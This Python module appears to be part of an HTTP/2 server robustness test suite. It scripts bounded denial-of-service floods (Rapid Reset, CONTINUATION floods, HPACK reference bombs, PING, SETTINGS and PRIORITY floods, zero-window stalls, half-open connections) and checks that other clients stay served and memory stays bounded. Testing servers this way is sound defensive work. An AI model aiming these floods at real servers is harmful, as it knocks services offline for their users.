"""Attacks on HTTP/2, bounded in count: what they cost, and whether others are served meanwhile."""

from __future__ import annotations

import select
import socket
import time
from collections.abc import Callable, Iterable, Iterator
from contextlib import contextmanager
from threading import Event, Thread

from ..case import Figures, Suite, Wrong
from ..front import Front
from ..http2.connection import Closed, Connection, Silence, wait_for
from ..http2.frame import (
    PREFACE,
    Setting,
    Type,
    block,
    code_name,
    continuation,
    data,
    headers,
    indexed_literal,
    literal,
    ping,
    priority,
    rst_stream,
    settings,
    window_update,
)
from ..process import peak_of

floods = Suite("floods", "Floods of HTTP/2", front="h2c")

MOST_MEMORY = 64.0
"""MiB that one attacking connection may cost, at its peak."""
STALL_SECONDS = 3
"""After so long without taking a byte the subject has stopped reading, which is an answer too."""


def under(front: Front, attack: Callable[[], str]) -> Figures:
    """Runs an attack; wrong where somebody else is not served meanwhile, or memory grows beyond the bound."""
    with bystander(front) as seen, peak_of(front.process) as figures:
        did = attack()
    figures["slowest other, ms"] = round(1000 * max(seen.waits, default=0))
    if seen.failures:
        count = len(seen.failures)
        raise Wrong(f"{did}; {count} of {count + len(seen.waits)} others not served: {seen.failures[0]}", figures)
    if figures["memory, MiB"] > MOST_MEMORY:
        raise Wrong(did, figures)
    return Figures(did, figures)


OTHERS_SECONDS = 10
"""How long another client waits; on a machine that does much else a second is nothing."""


class Seen:
    def __init__(self) -> None:
        self.waits: list[float] = []
        self.failures: list[str] = []


@contextmanager
def bystander(front: Front) -> Iterator[Seen]:
    """Another client, which asks for something every 20 ms on connections of its own."""
    seen, over = Seen(), Event()

    def ask() -> None:
        connection: Connection | None = None
        while not over.wait(0.02):
            begun = time.monotonic()
            try:
                connection = connection or Connection.opened(front)
                connection.expect_answer(connection.request("/bytes/100"), seconds=OTHERS_SECONDS)
                seen.waits.append(time.monotonic() - begun)
            except (Wrong, OSError, Closed, Silence) as problem:
                seen.failures.append(str(problem) or type(problem).__name__)
                connection = None
        if connection:
            connection.socket.close()

    thread = Thread(target=ask, daemon=True)
    thread.start()
    try:
        yield seen
    finally:
        over.set()
        thread.join(30)


def pour(connection: Connection, pieces: Iterable[bytes], *, read: bool = True) -> str:
    """Sends all pieces as fast as they are taken; returns how far that came and what stopped it."""
    stopped = Pour(connection, read).run(pieces)
    connection.socket.settimeout(5)
    return stopped


class Pour:
    def __init__(self, connection: Connection, read: bool) -> None:
        self.connection, self.read = connection, read
        self.socket = connection.socket
        self.received = b""
        self.goaway: str | None = None
        self.resets = 0

    def run(self, pieces: Iterable[bytes]) -> str:
        self.socket.setblocking(False)
        taken = 0
        for piece in pieces:
            ended = self.send(piece)
            if ended:
                self.take()
                return f"{self.goaway or ended} after {taken}"
            taken += 1
        ended = self.settle()
        return f"{self.goaway or ended} after all {taken}" if self.goaway or ended else f"took all {taken}"

    def send(self, piece: bytes) -> str | None:
        left = memoryview(piece)
        while left:
            ready = wait_for(self.socket, select.POLLOUT | (select.POLLIN if self.read else 0), STALL_SECONDS)
            if not ready:
                return "reads no more"
            if self.read and ready & ~select.POLLOUT and self.take():
                return "closed"
            if ready & ~select.POLLIN:
                try:
                    left = left[self.socket.send(left) :]
                except BlockingIOError:
                    continue
                except OSError:
                    self.take()
                    return "closed"
        return None

    def settle(self) -> str | None:
        """Reads until nothing has come for half a second, also what was left unread until now."""
        while wait_for(self.socket, select.POLLIN, 0.5):
            if self.take():
                return "closed"
        return None

    def take(self) -> bool:
        """Reads what is there; true at the end."""
        try:
            while more := self.socket.recv(1 << 18):
                self.received += more
                self.frames()
            return True
        except BlockingIOError:
            return False
        except OSError:
            return True

    def frames(self) -> None:
        at = 0
        while len(self.received) - at >= 9:
            length = int.from_bytes(self.received[at : at + 3], "big")
            if len(self.received) - at < 9 + length:
                break
            type = self.received[at + 3]
            if type == Type.GOAWAY:
                self.goaway = f"GOAWAY {code_name(int.from_bytes(self.received[at + 13 : at + 17], 'big'))}"
            self.resets += type == Type.RST_STREAM
            at += 9 + length
        self.received = self.received[at:]


def poured(front: Front, make: Callable[[Connection], Iterable[bytes]], *, values: list | None = None, read: bool = True) -> Figures:
    def attack() -> str:
        with Connection.opened(front, values) as connection:
            return pour(connection, make(connection), read=read)

    return under(front, attack)


@floods.case
def rapid_reset(front: Front) -> Figures:
    """CVE-2023-44487: 5,000 streams, each opened and reset at once, at a service that never answers."""

    def streams(connection: Connection) -> Iterator[bytes]:
        whole = block(connection.fields("/wait"))
        for number in range(5_000):
            stream = 2 * number + 1
            yield headers(stream, whole) + rst_stream(stream)

    return poured(front, streams)


@floods.case
def streams_that_the_server_is_made_to_reset(front: Front) -> Figures:
    """CVE-2025-8671: 5,000 streams, each made the server's to reset by a WINDOW_UPDATE of 0."""

    def streams(connection: Connection) -> Iterator[bytes]:
        whole = block(connection.fields("/wait"))
        for number in range(5_000):
            stream = 2 * number + 1
            yield headers(stream, whole) + window_update(stream, 0)

    return poured(front, streams)


@floods.case
def streams_that_end_and_are_then_broken(front: Front) -> Figures:
    """CVE-2025-8671: 5,000 streams, each ended by its HEADERS and sent DATA afterwards."""

    def streams(connection: Connection) -> Iterator[bytes]:
        whole = block(connection.fields("/wait"))
        for number in range(5_000):
            stream = 2 * number + 1
            yield headers(stream, whole) + data(stream, b"x", end=True)

    return poured(front, streams)


@floods.case
def a_field_block_without_end(front: Front) -> Figures:
    """CVE-2024-27316: HEADERS, then 32 MiB of CONTINUATION with fields, none of them the last."""

    def frames(connection: Connection) -> Iterator[bytes]:
        yield headers(1, block(connection.fields()), end_headers=False)
        part = b"".join(literal(b"x-%d" % number, b"v" * 1000) for number in range(16))
        for _ in range(2_000):
            yield continuation(1, part, end_headers=False)

    return poured(front, frames)


@floods.case
def empty_CONTINUATION(front: Front) -> Figures:
    """CVE-2024-27316: HEADERS, then 100,000 empty CONTINUATION frames."""

    def frames(connection: Connection) -> Iterator[bytes]:
        yield headers(1, block(connection.fields()), end_headers=False)
        for _ in range(1_000):
            yield continuation(1, b"", end_headers=False) * 100

    return poured(front, frames)


@floods.case
def one_long_field_many_times(front: Front) -> Figures:
    """RFC 7541 §7.3: an entry of 4,000 bytes, then 100 blocks of 16,000 references of one byte: 6 GB as fields."""
    return bomb(front, indexed_literal(b"x-long", b"v" * 3_900), blocks=100)


@floods.case
def one_short_cookie_many_times_in_stalled_streams(front: Front) -> Figures:
    """CVE-2026-49975: 100 streams of 16,000 references to a short cookie each, their answers stalled by a window of 0."""
    return bomb(front, indexed_literal(b"cookie", b"a"), blocks=100)


def bomb(front: Front, entry: bytes, blocks: int) -> Figures:
    def frames(connection: Connection) -> Iterator[bytes]:
        plain = block(connection.fields("/bytes/100000"))
        yield headers(1, plain + entry)
        for number in range(1, blocks):
            yield headers(2 * number + 1, plain + b"\xbe" * 16_000)

    def attack() -> str:
        with Connection.opened(front, [(Setting.INITIAL_WINDOW_SIZE, 0)]) as connection:
            did = pour(connection, frames(connection))
            time.sleep(1)  # held
            return did

    return under(front, attack)


@floods.case
def SETTINGS_in_masses(front: Front) -> Figures:
    """CVE-2019-9515: 50,000 SETTINGS, whose acknowledgements are read."""
    return poured(front, lambda _: (settings([(Setting.INITIAL_WINDOW_SIZE, 65535)]) for _ in range(50_000)))


@floods.case
def SETTINGS_whose_acknowledgements_nobody_reads(front: Front) -> Figures:
    """CVE-2019-9515: as many SETTINGS as are taken, 500,000 at most, whose acknowledgements are not read."""
    return poured(front, lambda _: (settings() * 100 for _ in range(5_000)), read=False)


@floods.case
def PING_in_masses(front: Front) -> Figures:
    """CVE-2019-9512: 50,000 PINGs, whose answers are read."""
    return poured(front, lambda _: (ping() for _ in range(50_000)))


@floods.case
def PING_whose_answers_nobody_reads(front: Front) -> Figures:
    """CVE-2019-9512: as many PINGs as are taken, 500,000 at most, whose answers are not read."""
    return poured(front, lambda _: (ping() * 100 for _ in range(5_000)), read=False)


@floods.case
def empty_DATA(front: Front) -> Figures:
    """CVE-2019-9518: 100,000 DATA frames without a byte and without END_STREAM."""

    def frames(connection: Connection) -> Iterator[bytes]:
        yield headers(1, block(connection.fields("/wait", method="POST")), end=False)
        for _ in range(1_000):
            yield data(1) * 100

    return poured(front, frames)


@floods.case
def PRIORITY_in_masses(front: Front) -> Figures:
    """CVE-2019-9513: 100,000 PRIORITY frames that turn the tree of dependencies over."""

    def frames(connection: Connection) -> Iterator[bytes]:
        for number in range(1_000):
            yield b"".join(priority(2 * turn + 1, 2 * ((turn + number) % 100) + 201) for turn in range(100))

    return poured(front, frames)


@floods.case
def WINDOW_UPDATE_in_masses(front: Front) -> Figures:
    """RFC 9113 §10.5: 100,000 WINDOW_UPDATE frames of 1 for the connection."""
    return poured(front, lambda _: (window_update(0, 1) * 100 for _ in range(1_000)))


@floods.case
def a_window_of_0_with_100_streams(front: Front) -> Figures:
    """CVE-2019-9511: 100 answers of 1 MB asked for at once, none of which may send a byte, held for three seconds."""

    def attack() -> str:
        with Connection.opened(front, [(Setting.INITIAL_WINDOW_SIZE, 0)]) as connection:
            did = pour(connection, (headers(2 * number + 1, block(connection.fields("/bytes/1000000"))) for number in range(100)))
            time.sleep(3)
            return f"{did}, held"

    return under(front, attack)


@floods.case
def windows_of_one_byte(front: Front) -> Figures:
    """CVE-2019-9511: 20 answers read byte by byte, 20,000 WINDOW_UPDATEs of 1 in all."""

    def frames(connection: Connection) -> Iterator[bytes]:
        whole = block(connection.fields("/bytes/100000"))
        yield b"".join(headers(2 * number + 1, whole) for number in range(20))
        for _ in range(1_000):
            yield b"".join(window_update(2 * number + 1, 1) for number in range(20))

    return poured(front, frames, values=[(Setting.INITIAL_WINDOW_SIZE, 0)])


@floods.case
def connections_with_half_a_preface(front: Front) -> Figures:
    """RFC 9113 §10.5: 500 connections that send ten bytes of the preface, held for three seconds."""
    return held(front, PREFACE[:10])


@floods.case
def connections_with_half_a_request(front: Front) -> Figures:
    """RFC 9113 §10.5: 500 connections with a field block that does not go on, held for three seconds."""
    return held(front, PREFACE + settings() + headers(1, literal(b":method", b"GET"), end_headers=False))


def held(front: Front, first: bytes) -> Figures:
    def attack() -> str:
        opened: list[socket.socket] = []
        try:
            for _ in range(500):
                connected = front.dial()
                connected.sendall(first)
                opened.append(connected)
            time.sleep(3)
            return f"{len(opened)} held"
        finally:
            for connected in opened:
                connected.close()

    return under(front, attack)
